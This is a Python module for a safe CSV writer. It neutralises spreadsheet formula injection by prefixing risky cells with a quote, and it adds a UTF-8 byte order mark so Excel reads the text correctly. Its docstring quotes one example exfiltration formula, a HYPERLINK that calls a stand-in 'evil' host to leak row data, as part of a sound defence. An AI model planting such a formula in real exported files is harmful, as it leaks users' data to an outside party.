"""CSV for people who open it in a spreadsheet: the one writer of every CSV we hand out.

- A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
  Excel/LibreOffice (`=HYPERLINK("http://evil/?"&A1, "click")` leaks the row when clicked):
  such cells get a leading `'`, which spreadsheets show as text (OWASP "CSV injection").
- The file starts with a UTF-8 byte order mark, without which Excel reads UTF-8 as the local
  code page and Vietnamese comes out garbled (`Äáº·ng` for `Đặng`).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

BOM = "\ufeff"
CONTENT_TYPE = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """The value as a cell a spreadsheet shows as text (None is empty)."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """csv.writer whose rows are written with safe cells."""

    def __init__(self, stream: TextIO):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: TextIO) -> SafeWriter:
    """Start a CSV file on `stream` (text, opened with newline=""): the BOM, then rows."""
    stream.write(BOM)
    return SafeWriter(stream)
